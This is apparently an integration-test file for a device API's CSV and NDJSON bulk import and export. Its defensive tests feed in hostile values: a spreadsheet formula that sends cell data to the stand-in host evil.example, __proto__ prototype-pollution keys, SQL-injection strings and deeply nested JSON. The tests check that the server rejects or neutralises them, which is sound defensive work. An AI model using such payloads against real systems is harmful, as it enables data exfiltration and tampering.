import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectProblem, mustBeString } from '../../../test/support/assertions.js';
import { dialectCases, type TestDatabase } from '../../../test/support/databases.js';
import { startTestServer, type TestServer } from '../../../test/support/test-server.js';

/**
 * Bulk import (CSV and NDJSON, best-effort and atomic) and export over real HTTP: per-row
 * reports, nothing written by a failed atomic import or an oversized body, and exports that
 * import into another tenant as identical devices.
 */

const CSV = { 'content-type': 'text/csv' };
const NDJSON = { 'content-type': 'application/x-ndjson' };
const IMPORT_LIMIT = 4096;

const ndjson = (rows: readonly unknown[]) => `${rows.map((row) => JSON.stringify(row)).join('\n')}\n`;

interface Comparable {
  readonly id: string;
  readonly typeId: string;
  readonly name: string;
  readonly tags: unknown;
  readonly attributes: unknown;
}

/** What an export must carry over: everything but versions and times. */
const comparable = (items: readonly Comparable[]) =>
  items.map(({ id, typeId, name, tags, attributes }) => ({ id, typeId, name, tags, attributes }));

for (const dialect of dialectCases()) {
  describe.skipIf(!dialect.available)(`device import and export: ${dialect.name}`, () => {
    let database: TestDatabase;
    let ts: TestServer;

    async function adminKeyFor(tenantId: string): Promise<string> {
      expect(
        (await ts.request('POST', '/v1/tenants', { json: { id: tenantId, name: tenantId } })).status,
      ).toBe(201);
      const key = await ts.request('POST', `/v1/tenants/${tenantId}/keys`, {
        json: { name: 'admin', scope: 'admin' },
      });
      expect(key.status).toBe(201);
      const secret = mustBeString(key.body.secret, 'secret');
      for (const id of ['meter', 'tracker']) {
        const type = await ts.request('POST', '/v1/device-types', { key: secret, json: { id, name: id } });
        expect(type.status).toBe(201);
      }
      return secret;
    }

    function importBody(key: string, query: string, body: string, headers: Record<string, string>) {
      return ts.request('POST', `/v1/devices/import${query}`, { key, body, headers });
    }

    async function deviceIds(key: string, query = ''): Promise<string[]> {
      const response = await ts.request('GET', `/v1/devices?deleted=include&limit=1000${query}`, { key });
      expect(response.status).toBe(200);
      return response.body.items.map((d: { id: string }) => d.id);
    }

    async function allDevices(key: string): Promise<Comparable[]> {
      const response = await ts.request('GET', '/v1/devices?limit=1000', { key });
      expect(response.status).toBe(200);
      return response.body.items;
    }

    beforeAll(async () => {
      database = await dialect.create();
      ts = await startTestServer(database);
    });
    afterAll(async () => {
      await ts?.close();
      await database?.drop();
    });

    describe('CSV', () => {
      let key = '';
      beforeAll(async () => {
        key = await adminKeyFor('csv');
      });

      it('imports good rows with tag.x and attributes JSON columns', async () => {
        const body = [
          'id,typeId,name,tag.site,tag.fleet,attributes,attr.fw',
          'c-1,meter,Meter one,north,red,"{""sim"":""8944"",""slots"":[1,2]}",',
          'c-2,tracker,"Tracker, two",south,,,1.2.3',
          '  c-3 ,meter,,north,red,{},',
        ].join('\n');
        const response = await importBody(key, '', body, CSV);
        expect(response.status, response.text).toBe(200);
        expect(response.body).toEqual({
          mode: 'best-effort',
          committed: true,
          received: 3,
          created: 3,
          failed: 0,
          errors: [],
          errorsTruncated: false,
        });
        const c1 = await ts.request('GET', '/v1/devices/c-1', { key });
        expect(c1.body).toMatchObject({
          typeId: 'meter',
          name: 'Meter one',
          tags: { site: 'north', fleet: 'red' },
          attributes: { sim: '8944', slots: [1, 2] },
          version: 1,
        });
        const c2 = await ts.request('GET', '/v1/devices/c-2', { key });
        expect(c2.body).toMatchObject({
          name: 'Tracker, two',
          tags: { site: 'south' },
          attributes: { fw: '1.2.3' },
        });
        const c3 = await ts.request('GET', '/v1/devices/c-3', { key });
        expect(c3.body).toMatchObject({ name: '', tags: { site: 'north', fleet: 'red' } });
        const byTag = await ts.request('GET', '/v1/devices?tag=fleet=red', { key });
        expect(byTag.body.items.map((d: { id: string }) => d.id)).toEqual(['c-1', 'c-3']);
      });

      it('imports the good rows of a best-effort file and reports the bad ones by line and code', async () => {
        const body = [
          'id,typeId,name,tag.site,attributes', // line 1
          'ok-1,meter,Good,east,', // 2
          'bad id,meter,,,', // 3
          'ok-2,nope,,,', // 4: unknown type
          'ok-1,meter,Twice,,', // 5: duplicate in file
          'ok-3,meter,,,not json', // 6
          'c-1,meter,,,', // 7: exists already
          'ok-4,tracker,"a\u0007b",,', // 8: control character
          'ok-5,tracker,Last,,"{""n"":1}"', // 9
        ].join('\n');
        const response = await importBody(key, '', body, CSV);
        expect(response.status, response.text).toBe(200);
        expect(response.body).toMatchObject({
          mode: 'best-effort',
          committed: true,
          received: 8,
          created: 2,
          failed: 6,
          errorsTruncated: false,
        });
        const errors = response.body.errors.map((e: { line: number; code: string }) => [e.line, e.code]);
        expect(errors).toEqual(
          expect.arrayContaining([
            [3, 'invalid_id'],
            [4, 'unknown_type'],
            [5, 'duplicate_in_file'],
            [6, 'malformed_row'],
            [7, 'already_exists'],
            [8, 'invalid_name'],
          ]),
        );
        expect(errors).toHaveLength(6);
        expect(await deviceIds(key, '&typeId=meter')).toEqual(expect.arrayContaining(['ok-1']));
        expect((await ts.request('GET', '/v1/devices/ok-1', { key })).body.name).toBe('Good');
        expect((await ts.request('GET', '/v1/devices/ok-5', { key })).body.attributes).toEqual({ n: 1 });
        expect((await ts.request('GET', '/v1/devices/c-1', { key })).body.name).toBe('Meter one');
        for (const absent of ['ok-2', 'ok-3', 'ok-4']) {
          expectProblem(await ts.request('GET', `/v1/devices/${absent}`, { key }), 404, 'not_found');
        }
      });

      it('writes nothing from an atomic file with one bad row', async () => {
        const before = await deviceIds(key);
        const body = ['id,typeId', 'at-1,meter', 'at-2,meter', 'at-3,unknown-type', 'at-4,meter'].join('\n');
        const response = await importBody(key, '?atomic=true', body, CSV);
        // Nothing was written: an error status, not 200, with the per-row report as its data.
        expectProblem(response, 422, 'import_rejected');
        expect(response.body.detail).toBe('the atomic import was not committed: 1 of 4 rows were rejected');
        expect(response.body.data).toMatchObject({
          mode: 'atomic',
          committed: false,
          received: 4,
          created: 0,
          failed: 1,
          errors: [expect.objectContaining({ line: 4, id: 'at-3', code: 'unknown_type' })],
        });
        expect(await deviceIds(key)).toEqual(before);
      });

      it('writes every row of an atomic file that is all good', async () => {
        const body = ['id,typeId,tag.batch', 'at-1,meter,b1', 'at-2,meter,b1', 'at-3,tracker,b1'].join('\n');
        const response = await importBody(key, '?atomic=true', body, CSV);
        expect(response.body).toMatchObject({
          mode: 'atomic',
          committed: true,
          received: 3,
          created: 3,
          failed: 0,
        });
        expect(await deviceIds(key, '&tag=batch=b1')).toEqual(['at-1', 'at-2', 'at-3']);
      });

      it('uses the typeId query parameter for rows that name no type', async () => {
        const body = ['id,typeId', 'dt-1,', 'dt-2,meter'].join('\n');
        const response = await importBody(key, '?typeId=tracker', body, CSV);
        expect(response.body).toMatchObject({ created: 2, failed: 0 });
        expect((await ts.request('GET', '/v1/devices/dt-1', { key })).body.typeId).toBe('tracker');
        expect((await ts.request('GET', '/v1/devices/dt-2', { key })).body.typeId).toBe('meter');
        const noType = await importBody(key, '', 'id\ndt-3\n', CSV);
        expect(noType.body.errors).toEqual([expect.objectContaining({ line: 2, code: 'invalid_type' })]);
        expectProblem(
          await importBody(key, '?typeId=bad%20type', 'id\ndt-4\n', CSV),
          400,
          'validation_failed',
        );
      });

      it('reports unknown columns per row', async () => {
        const response = await importBody(key, '', 'id,typeId,colour\nuc-1,meter,red\n', CSV);
        expect(response.body.errors).toEqual([expect.objectContaining({ line: 2, code: 'unknown_field' })]);
        expectProblem(await ts.request('GET', '/v1/devices/uc-1', { key }), 404, 'not_found');
      });

      it('does not let __proto__ in an import reach any prototype', async () => {
        const csv = [
          'id,typeId,tags,tag.__proto__',
          'pp-1,meter,"{""__proto__"":{""polluted"":""yes""}}",x',
        ].join('\n');
        const fromCsv = await importBody(key, '', csv, CSV);
        expect(fromCsv.status, fromCsv.text).toBe(200);
        const line = '{"id":"pp-2","typeId":"meter","attributes":{"__proto__":{"polluted":"yes"}}}\n';
        const fromNdjson = await importBody(key, '', line, NDJSON);
        expect(fromNdjson.status, fromNdjson.text).toBe(200);
        expect(({} as Record<string, unknown>).polluted).toBeUndefined();
        for (const id of ['pp-1', 'pp-2']) {
          const device = await ts.request('GET', `/v1/devices/${id}`, { key });
          if (device.status === 200) expect(Object.getPrototypeOf(device.body.tags)).toBe(Object.prototype);
        }
        expect((await ts.request('GET', '/readyz', { key: null })).status).toBe(200);
      });

      it('reports rows with lone surrogates, prototype keys or deep nesting, and writes the good ones', async () => {
        const own = await adminKeyFor('csv-hostile');
        const csv = [
          'id,typeId,name,attributes',
          'hx-1,meter,plain,{}',
          'hx-2,meter,ok,"{""\\ud800"":1}"',
          `hx-3,meter,ok,"{""a"":${'['.repeat(70)}${']'.repeat(70)}}"`,
          'hx-4,meter,ok,"{""__proto__"":{""x"":1}}"',
          'hx-5,meter,fine,"{""n"":""\\ud83d\\ude80""}"',
        ].join('\n');
        const response = await importBody(own, '', csv, CSV);
        expect(response.status, response.text).toBe(200);
        const codes = (response.body.errors as Array<{ line: number; code: string }>).map((e) => [
          e.line,
          e.code,
        ]);
        expect(codes).toEqual([
          [3, 'invalid_text'],
          [4, 'json_too_deep'],
          [5, 'forbidden_key'],
        ]);
        expect((await ts.request('GET', '/v1/devices/hx-5', { key: own })).body.attributes).toEqual({
          n: '🚀',
        });
      });

      it('answers malformed_body to a CSV that cannot be parsed, and writes nothing in atomic mode', async () => {
        const before = await deviceIds(key);
        const response = await importBody(
          key,
          '?atomic=true',
          'id,typeId\nmb-1,meter\n"unterminated,meter\n',
          CSV,
        );
        expectProblem(response, 400, 'malformed_body');
        expect(await deviceIds(key)).toEqual(before);
      });
    });

    describe('NDJSON', () => {
      let key = '';
      beforeAll(async () => {
        key = await adminKeyFor('nd');
      });

      it('reports lines with lone surrogates, prototype keys or deep nesting instead of failing', async () => {
        const own = await adminKeyFor('ndjson-hostile');
        const lines = [
          '{"id":"nx-1","typeId":"meter","name":"half \\ud800"}',
          `{"id":"nx-2","typeId":"meter","attributes":{"a":${'['.repeat(8000)}${']'.repeat(8000)}}}`,
          '{"id":"nx-3","typeId":"meter","__proto__":{"x":1}}',
          '{"id":"nx-4","typeId":"meter","name":"whole \\ud83d\\ude80"}',
        ].join('\n');
        const response = await importBody(own, '', lines, NDJSON);
        expect(response.status, response.text).toBe(200);
        const codes = (response.body.errors as Array<{ line: number; code: string }>).map((e) => [
          e.line,
          e.code,
        ]);
        expect(codes).toEqual([
          [1, 'invalid_text'],
          [2, 'json_too_deep'],
          [3, 'forbidden_key'],
        ]);
        expect((await ts.request('GET', '/v1/devices/nx-4', { key: own })).body.name).toBe('whole 🚀');
      });

      it('refuses an import whose bytes are not UTF-8 (an encoded lone surrogate) with invalid_text', async () => {
        const own = await adminKeyFor('not-utf8');
        const surrogate = Buffer.from([0xed, 0xa0, 0x80]);
        for (const [prefix, headers] of [
          ['{"id":"u8-1","typeId":"meter","name":"', NDJSON],
          ['id,typeId,name\nu8-1,meter,', CSV],
        ] as const) {
          const response = await ts.request('POST', '/v1/devices/import?atomic=true', {
            key: own,
            body: Buffer.concat([
              Buffer.from(prefix),
              surrogate,
              Buffer.from(headers === CSV ? '\n' : '"}\n'),
            ]),
            headers,
          });
          expectProblem(response, 400, 'invalid_text');
        }
        expect(await deviceIds(own)).toEqual([]);
      });

      it('imports good lines and reports bad ones by line number, blank lines counted', async () => {
        const body = [
          JSON.stringify({
            id: 'n-1',
            typeId: 'meter',
            tags: { site: 'x' },
            attributes: { deep: { a: [1] } },
          }), // 1
          '', // 2
          '{"id": "n-2", "typeId": "meter"', // 3: not JSON
          '["n-3", "meter"]', // 4: not an object
          JSON.stringify({ id: 'n-4', typeId: 'meter', colour: 'red' }), // 5
          JSON.stringify({ id: 'n-5', typeId: 'meter', tags: { site: 7 } }), // 6
          JSON.stringify({ id: 'n-6', typeId: 'meter', tags: { 'bad key': 'v' } }), // 7
          JSON.stringify({ id: 'n-7', typeId: 'meter', attributes: [1] }), // 8
          JSON.stringify({ id: 'n-8', typeId: 'meter', name: 'x'.repeat(201) }), // 9
          '{"id":"n-9","typeId":"meter","__proto__":{"polluted":true}}', // 10
          JSON.stringify({ id: 'n-10', typeId: 'tracker', name: 'Ten' }), // 11
        ].join('\n');
        const response = await importBody(key, '', body, NDJSON);
        expect(response.status, response.text).toBe(200);
        expect(response.body).toMatchObject({ received: 10, created: 2, failed: 8 });
        const errors = response.body.errors.map((e: { line: number; code: string }) => [e.line, e.code]);
        expect(errors).toEqual([
          [3, 'malformed_row'],
          [4, 'malformed_row'],
          [5, 'unknown_field'],
          [6, 'invalid_tags'],
          [7, 'invalid_tags'],
          [8, 'invalid_attributes'],
          [9, 'invalid_name'],
          [10, 'forbidden_key'],
        ]);
        expect(await deviceIds(key)).toEqual(['n-1', 'n-10']);
        expect((await ts.request('GET', '/v1/devices/n-1', { key })).body).toMatchObject({
          tags: { site: 'x' },
          attributes: { deep: { a: [1] } },
        });
        expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      });

      it('reports ids that exist already, deleted ones included, and duplicates within the file', async () => {
        expect((await ts.request('DELETE', '/v1/devices/n-10', { key })).status).toBe(204);
        const body = ndjson([
          { id: 'n-1', typeId: 'meter' },
          { id: 'n-10', typeId: 'meter' },
          { id: 'n-20', typeId: 'meter' },
          { id: 'n-20', typeId: 'tracker' },
        ]);
        const response = await importBody(key, '', body, NDJSON);
        expect(response.body.created).toBe(1);
        expect(response.body.errors.map((e: { line: number; code: string }) => [e.line, e.code])).toEqual(
          expect.arrayContaining([
            [1, 'already_exists'],
            [2, 'already_exists'],
            [4, 'duplicate_in_file'],
          ]),
        );
        expect((await ts.request('GET', '/v1/devices/n-20', { key })).body.typeId).toBe('meter');
        expect((await ts.request('GET', '/v1/devices/n-10?deleted=include', { key })).body.typeId).toBe(
          'tracker',
        );
      });

      it('writes nothing from an atomic file whose only fault is an id that exists', async () => {
        const before = await deviceIds(key);
        const response = await importBody(
          key,
          '?atomic=true',
          ndjson([
            { id: 'n-30', typeId: 'meter' },
            { id: 'n-1', typeId: 'meter' },
          ]),
          NDJSON,
        );
        expectProblem(response, 422, 'import_rejected');
        expect(response.body.data).toMatchObject({ mode: 'atomic', committed: false, created: 0, failed: 1 });
        expect(await deviceIds(key)).toEqual(before);
      });

      it('accepts application/ndjson and application/jsonl, and ?format overrides the content type', async () => {
        for (const [type, id] of [
          ['application/ndjson', 'n-ct-1'],
          ['application/jsonl', 'n-ct-2'],
          ['application/x-ndjson; charset=utf-8', 'n-ct-3'],
        ] as const) {
          const response = await importBody(key, '', ndjson([{ id, typeId: 'meter' }]), {
            'content-type': type,
          });
          expect(response.body.created, type).toBe(1);
        }
        const asCsv = await importBody(key, '?format=csv', 'id,typeId\nn-ct-4,meter\n', NDJSON);
        expect(asCsv.body.created).toBe(1);
      });

      it('answers 415 to an import in another content type and writes nothing', async () => {
        const before = await deviceIds(key);
        const body = ndjson([{ id: 'n-415', typeId: 'meter' }]);
        for (const type of [
          'application/json',
          'text/plain',
          'application/xml',
          'multipart/form-data; boundary=x',
        ]) {
          expectProblem(
            await importBody(key, '', body, { 'content-type': type }),
            415,
            'unsupported_media_type',
          );
        }
        expect(await deviceIds(key)).toEqual(before);
      });

      it('handles an empty file', async () => {
        const response = await importBody(key, '?atomic=true', '', NDJSON);
        expect(response.body).toMatchObject({ received: 0, created: 0, failed: 0, committed: true });
      });

      it('imports a file larger than one write chunk in one atomic go', async () => {
        const rows = Array.from({ length: 2500 }, (_, i) => ({
          id: `bulk-${String(i).padStart(5, '0')}`,
          typeId: 'meter',
          tags: { bulk: 'yes' },
        }));
        const response = await importBody(key, '?atomic=true', ndjson(rows), NDJSON);
        expect(response.body).toMatchObject({ committed: true, received: 2500, created: 2500, failed: 0 });
        const exported = await ts.request('GET', '/v1/devices/export?tag=bulk=yes', { key });
        expect(exported.headers.get('x-total-count')).toBe('2500');
        expect(exported.text.trim().split('\n')).toHaveLength(2500);
      });
    });

    describe('export', () => {
      let source = '';
      beforeAll(async () => {
        source = await adminKeyFor('source');
        const devices = [
          { id: 'e-1', typeId: 'meter', name: 'Plain', tags: { site: 'north' }, attributes: { n: 1 } },
          {
            id: 'e-2',
            typeId: 'tracker',
            name: 'Quote " and, comma',
            tags: { 'k.x': 'v,1', empty: '', quote: '"q"' },
            attributes: {
              nested: { list: [1, 'two', null, true], text: 'line\nbreak' },
              unicode: 'Zürich 🚀',
            },
          },
          { id: 'e-3', typeId: 'meter', name: '  padded  ', tags: {}, attributes: {} },
          { id: 'e:4.x_y-z', typeId: 'meter', name: "'; DROP TABLE devices; --", tags: { sql: "' OR 1=1" } },
          { id: 'e-gone', typeId: 'meter', name: 'Deleted' },
        ];
        for (const json of devices) {
          const response = await ts.request('POST', '/v1/devices', { key: source, json });
          expect(response.status, response.text).toBe(201);
        }
        const changed = await ts.request('PATCH', '/v1/devices/e-1', {
          key: source,
          json: { name: 'Plain v2' },
        });
        expect(changed.status).toBe(200);
        expect((await ts.request('DELETE', '/v1/devices/e-gone', { key: source })).status).toBe(204);
      });

      it('exports NDJSON with the right count, leaving deleted devices out by default', async () => {
        const response = await ts.request('GET', '/v1/devices/export', { key: source });
        expect(response.status).toBe(200);
        expect(response.headers.get('content-type')).toMatch(/^application\/x-ndjson/);
        const lines = response.text.trim().split('\n');
        expect(response.headers.get('x-total-count')).toBe(String(lines.length));
        expect(lines).toHaveLength(4);
        expect(lines.map((line) => JSON.parse(line).id)).toEqual(['e-1', 'e-2', 'e-3', 'e:4.x_y-z']);
        const all = await ts.request('GET', '/v1/devices/export?deleted=include', { key: source });
        expect(all.headers.get('x-total-count')).toBe('5');
        const only = await ts.request('GET', '/v1/devices/export?deleted=only&format=csv', { key: source });
        expect(only.headers.get('x-total-count')).toBe('1');
        expect(only.text).toContain('e-gone');
      });

      it('counts filtered exports right in x-total-count', async () => {
        for (const [query, count] of [
          ['typeId=meter', 3],
          ['typeId=tracker', 1],
          ['tag=site=north', 1],
          ['tag=empty', 1],
          ['tag=site&typeId=tracker', 0],
        ] as const) {
          for (const format of ['ndjson', 'csv']) {
            const response = await ts.request('GET', `/v1/devices/export?format=${format}&${query}`, {
              key: source,
            });
            expect(response.headers.get('x-total-count'), `${format} ${query}`).toBe(String(count));
            const rows = response.text.split('\n').filter((line) => line !== '');
            expect(rows.length - (format === 'csv' ? 1 : 0), `${format} ${query}`).toBe(count);
          }
        }
      });

      it('quotes cells a spreadsheet would run as formulas, and imports them back unchanged', async () => {
        const key = await adminKeyFor('formulas');
        const names = [
          '=HYPERLINK("https://evil.example/?x="&A1,"click")',
          '+1 meter',
          '-5 sensor',
          '@SUM(A1:A9)',
          "'quoted already",
        ];
        for (const [index, name] of names.entries()) {
          const response = await ts.request('POST', '/v1/devices', {
            key,
            json: { id: `f-${index}`, typeId: 'meter', name, tags: { formula: '=1+1' } },
          });
          expect(response.status, response.text).toBe(201);
        }
        const exported = await ts.request('GET', '/v1/devices/export?format=csv', { key });
        expect(exported.status).toBe(200);
        const cells = exported.text.split(/[\n,]/);
        // No cell, quoted or not, begins with a formula character once its CSV quotes are off.
        for (const cell of cells) expect(cell.replace(/^"/, ''), cell).not.toMatch(/^[=+\-@\t\r]/);
        expect(exported.text).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&A1`);
        expect(exported.text).toContain("''quoted already");
        const target = await adminKeyFor('formulas-copy');
        const imported = await importBody(target, '?atomic=true', exported.text, CSV);
        expect(imported.body).toMatchObject({ committed: true, created: names.length, failed: 0 });
        expect(comparable(await allDevices(target))).toEqual(comparable(await allDevices(key)));
      });

      for (const format of ['ndjson', 'csv'] as const) {
        it(`round-trips a ${format} export through import into another tenant with identical devices`, async () => {
          const exported = await ts.request('GET', `/v1/devices/export?format=${format}`, { key: source });
          expect(exported.status).toBe(200);
          if (format === 'csv') expect(exported.headers.get('content-type')).toMatch(/^text\/csv/);
          const target = await adminKeyFor(`copy-${format}`);
          const imported = await importBody(
            target,
            '?atomic=true',
            exported.text,
            format === 'csv' ? CSV : NDJSON,
          );
          expect(imported.status, imported.text).toBe(200);
          expect(imported.body).toMatchObject({ committed: true, created: 4, failed: 0 });
          expect(comparable(await allDevices(target))).toEqual(comparable(await allDevices(source)));
          const again = await ts.request('GET', `/v1/devices/export?format=${format}`, { key: target });
          const strip = (text: string) =>
            format === 'ndjson'
              ? text
                  .trim()
                  .split('\n')
                  .map((line) => JSON.stringify(comparable([JSON.parse(line)])))
              : text
                  .trim()
                  .split('\n')
                  .map((line) => line.replace(/,\d+,[^,]*,[^,]*,[^,]*$/, ''));
          expect(strip(again.text)).toEqual(strip(exported.text));
        });
      }
    });

    describe('body limit', () => {
      let limitedDatabase: TestDatabase;
      let limited: TestServer;

      beforeAll(async () => {
        limitedDatabase = await dialect.create();
        limited = await startTestServer(limitedDatabase, { 'import-body-limit': IMPORT_LIMIT });
        expect(
          (await limited.request('POST', '/v1/device-types', { json: { id: 'meter', name: 'm' } })).status,
        ).toBe(201);
      });
      afterAll(async () => {
        await limited?.close();
        await limitedDatabase?.drop();
      });

      async function limitedIds(): Promise<string[]> {
        const response = await limited.request('GET', '/v1/devices?deleted=include&limit=1000');
        return response.body.items.map((d: { id: string }) => d.id);
      }

      const rows = (count: number) =>
        Array.from({ length: count }, (_, i) => ({
          id: `big-${String(i).padStart(4, '0')}`,
          typeId: 'meter',
        }));

      it('answers 413 to an import body over the limit and writes nothing in atomic mode', async () => {
        const tooBig = ndjson(rows(200));
        expect(Buffer.byteLength(tooBig)).toBeGreaterThan(IMPORT_LIMIT);
        const csv = `id,typeId\n${rows(300)
          .map((r) => `${r.id},${r.typeId}`)
          .join('\n')}\n`;
        expect(Buffer.byteLength(csv)).toBeGreaterThan(IMPORT_LIMIT);
        for (const [body, headers] of [
          [tooBig, NDJSON],
          [csv, CSV],
        ] as const) {
          const response = await limited.request('POST', '/v1/devices/import?atomic=true', { body, headers });
          expectProblem(response, 413, 'body_too_large');
          expect(await limitedIds()).toEqual([]);
        }
      });

      it('answers 413 in best-effort mode too, without writing rows of a small body', async () => {
        const response = await limited.request('POST', '/v1/devices/import', {
          body: ndjson(rows(200)),
          headers: NDJSON,
        });
        expectProblem(response, 413, 'body_too_large');
        expect(await limitedIds()).toEqual([]);
      });

      it('answers 413 to a single line over the limit', async () => {
        const response = await limited.request('POST', '/v1/devices/import', {
          body: `${JSON.stringify({ id: 'one', typeId: 'meter', name: 'x'.repeat(IMPORT_LIMIT) })}\n`,
          headers: NDJSON,
        });
        expectProblem(response, 413, 'body_too_large');
      });

      it('imports a body just under the limit and goes on serving', async () => {
        const fits = ndjson(rows(40));
        expect(Buffer.byteLength(fits)).toBeLessThan(IMPORT_LIMIT);
        const response = await limited.request('POST', '/v1/devices/import?atomic=true', {
          body: fits,
          headers: NDJSON,
        });
        expect(response.body).toMatchObject({ committed: true, created: 40 });
        expect(await limitedIds()).toHaveLength(40);
        expect((await limited.request('GET', '/readyz', { key: null })).status).toBe(200);
      });
    });
  });
}
